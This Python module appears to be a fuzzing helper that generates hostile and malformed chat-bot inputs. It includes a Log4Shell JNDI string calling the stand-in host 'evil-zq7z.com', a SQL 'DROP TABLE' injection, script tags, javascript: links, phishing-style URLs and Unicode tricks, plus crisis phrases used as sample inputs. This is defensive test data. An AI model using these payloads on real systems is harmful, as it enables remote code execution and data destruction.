"""What somebody might send who means harm, or whose telephone went mad. Drawn from a seeded chance."""

from __future__ import annotations

import string
from collections.abc import Callable, Sequence
from random import Random
from typing import Any, Final

MARKER: Final = "zq7z"
"""Stands inside of every mark and link that is made up here. Nobody may ever see it bold, or press it."""
HOST: Final = "evil-zq7z.com"

BIDI: Final = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
UNSEEN: Final = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u3164\ufe0f\U000e0041\U000e007f"
COMBINING: Final = "\u0300\u0301\u0338\u0489\u20dd\u3099\u0e47"
CONTROLS: Final = "".join(map(chr, (*range(0x20), *range(0x7F, 0xA0), 0x2028, 0x2029)))
SURROGATES: Final = "\ud800\udbff\udc00\udfff"
WIDE: Final = "👩‍👩‍👧‍👦🏳️‍🌈🇯🇵𝕿𝖊𝖘𝖙𒐫﷽"

TEMPLATES: Final = (
    *("**{}**", "*{}*", "_{}_", "__{}__", "~~{}~~", "||{}||", "`{}`", "``{}``", "```\n{}\n```", "***{}***"),
    *("# {}", "## {}", "### {}", "-# {}", "> {}", ">>> {}", "- {}", "1. {}", "+ {}", "    {}"),
    *("[{}](https://evil-zq7z.com)", "[{}]: https://evil-zq7z.com", "![{}](https://evil-zq7z.com/a.png)"),
    *("[{0}](<https://evil-zq7z.com> '{0}')", "<https://evil-zq7z.com/{}>", "https://evil-zq7z.com/{}"),
    *("http://evil-zq7z.com", "evil-zq7z.com", "www.evil-zq7z.co.jp/{}", "//evil-zq7z.com", "1.2.3.4/{}"),
    *("discord.gg/{}", "https://discord.gg/{}", "t.me/{}", "https://t.me/{}?start=x", "tg://user?id=77{}"),
    *(
        "tg://resolve?domain={}",
        "javascript:{}",
        "steam://run/{}",
        "mailto:{}@evil-zq7z.com",
        "{}@evil-zq7z.com",
    ),
    *(
        "@everyone {}",
        "@here {}",
        "<@123456789012345678> {}",
        "<@!123456789012345678>",
        "<@&12345678901234567>",
    ),
    *(
        "<#123456789012345678>{}",
        "<:{}:123456789012345678>",
        "<a:{}:123456789012345678>",
        "<t:1700000000:R>{}",
    ),
    *("</{}:123456789012345678>", "<id:customize>{}", "<id:{}>", "<sound:1:2>{}", "<+81312345678>{}"),
    *("@{}", "#{}", "$ZQZ {}", "/{}", "/start@{}_bot", "+81 3 1234 5678 {}", "4111111111111111 {}"),
    *("<b>{}</b>", "<i>{}</i>", "<a href='https://evil-zq7z.com'>{}</a>", '<a href="tg://user?id=7">{}</a>'),
    *(
        "<tg-spoiler>{}</tg-spoiler>",
        "<code>{}</code>",
        "<pre>{}",
        "</b>{}",
        "<b",
        "&lt;b&gt;{}",
        "&#60;b>{}",
    ),
    *("&amp;{}", "&{};", "&#x202e;{}", "&#8238;{}", "<!--{}-->", "<script>{}</script>", "<blockquote>{}"),
    *(
        "\\{}",
        "\\*{}\\*",
        "\\\\*{}*",
        "\\`{}\\`",
        "*\\*{}*",
        "\\[{}](https://evil-zq7z.com)",
        "{{{}}}",
        "{{fact:{}}}",
    ),
    *(
        "%s{}%d%n",
        "${{jndi:ldap://evil-zq7z.com/{}}}",
        "'; DROP TABLE talk; --{}",
        "\x1b[31m{}\x1b[0m",
        "{}\r\n{}",
    ),
)
VERBS: Final = (
    *("back", "change", "continue", "why", "skip", "recap", "help", "cards", "language", "pause", "stop"),
    *("remind", "restart", "keepsake", "hide", "export", "yes", "no", "none", "later", "日本語", "english"),
)
DANGER: Final = ("I want to kill myself", "he raped me", "my boss hit me", "死にたい", "I want to", "die")
USUAL: Final = (
    *("north", "1", "2", "2 and 3", "july 2027", "march 2027", "20000", "3", "4", "not sure", "the view"),
    *("The river is wide.", "tell me about the fund", "what is the fund?", "80,000 yen", "5 people", "１２"),
)


class Mean:
    """All that is drawn follows from `chance`."""

    def __init__(self, chance: Random) -> None:
        self.chance = chance
        self._ways: Sequence[Callable[[], str]] = (
            self._marked,
            self._marked,
            self._marked,
            self._mixed,
            self._noise,
            self._many,
            lambda: chance.choice(DANGER),
            lambda: chance.choice(VERBS),
            lambda: chance.choice(USUAL),
            lambda: str(self.number()),
        )

    def text(self) -> str:
        return self.chance.choice(self._ways)()

    def ordinary(self) -> str:
        return self.chance.choice(USUAL)

    def number(self) -> int | float:
        far = [0, -1, 2**31, 2**53 + 1, 2**63 - 1, 2**63, -(2**63) - 1, 10**40, 1e308, -0.0, 1.5]
        return self.chance.choice([*far, self.chance.randint(-10, 3000)])

    def data(self, shown: Sequence[str]) -> str:
        """Of a press. `shown`: data that buttons had."""
        chance = self.chance
        whole = chance.choice(shown) if shown else "1pAAAAAAAAbbbbbbcccccc1"
        place = chance.randrange(len(whole) + 1)
        ways: tuple[Callable[[], str], ...] = (
            lambda: whole[:place] + chance.choice(string.printable) + whole[place + 1 :],
            lambda: whole[:place],
            lambda: whole + whole,
            lambda: whole[:1] + chance.choice("patwlx") + whole[2:],
            lambda: whole[:23] + chance.choice(("0", "zzzzzzz", "-1", "1e9", "zzzzzzzz", "")),
            lambda: "g" + chance.choice("0123456789x") + whole,
            lambda: whole[::-1],
            lambda: "".join(chance.choices(string.ascii_letters + "-_", k=chance.randrange(65))),
            self.text,
        )
        return chance.choice(ways)()

    def spoiled(self, value: Any) -> Any:
        """JSON of which something has another type, is missing, too large, or too deep."""
        if isinstance(value, dict) and value and self.chance.random() < 0.8:
            name = self.chance.choice(list(value))
            match self.chance.randrange(6):
                case 0:
                    return {key: one for key, one in value.items() if key != name}
                case 1:
                    return {**value, name: self.odd()}
                case _:
                    return {**value, name: self.spoiled(value[name])}
        if isinstance(value, list) and value and self.chance.random() < 0.8:
            return [self.spoiled(value[0]), *value[1:]]
        return self.odd()

    def odd(self) -> Any:
        deep: Any = "x"
        for _ in range(self.chance.choice((1, 5, 60))):
            deep = [deep] if self.chance.random() < 0.5 else {"message": deep}
        return self.chance.choice((None, True, "", "x", [], {}, self.number(), self.text(), deep))

    def _marked(self) -> str:
        return " ".join(
            self.chance.choice(TEMPLATES).format(*[MARKER] * 2)
            for _ in range(self.chance.choice((1, 1, 2, 3)))
        )

    def _mixed(self) -> str:
        """A word with unseen signs within it."""
        signs = self.chance.choice((BIDI, UNSEEN, COMBINING, CONTROLS, WIDE, SURROGATES, BIDI + UNSEEN))
        words = self.chance.choice((self._marked(), self.chance.choice(VERBS), self.chance.choice(DANGER)))
        for _ in range(self.chance.randint(1, 6)):
            at = self.chance.randrange(len(words) + 1)
            words = words[:at] + self.chance.choice(signs) + words[at:]
        return words

    def _noise(self) -> str:
        most = self.chance.choice((0x7F, 0x3FF, 0xFFFF, 0x10FFFF))
        return "".join(chr(self.chance.randint(0, most)) for _ in range(self.chance.choice((0, 1, 5, 40))))

    def _many(self) -> str:
        """The longest that a platform takes, now and then; shorter most of the time."""
        sign: str = self.chance.choice(
            (*"*_`~|<>[]\\#@&.:/", "\u0301", "a ", "あ", "😀", "\n", "1,", "ﷺ", "<@1>", "\u202e")
        )
        times = self.chance.choice((3, 30, 30, 200, 200, 4096)) if self.chance.random() < 0.2 else 20
        return (sign * times)[:4096]
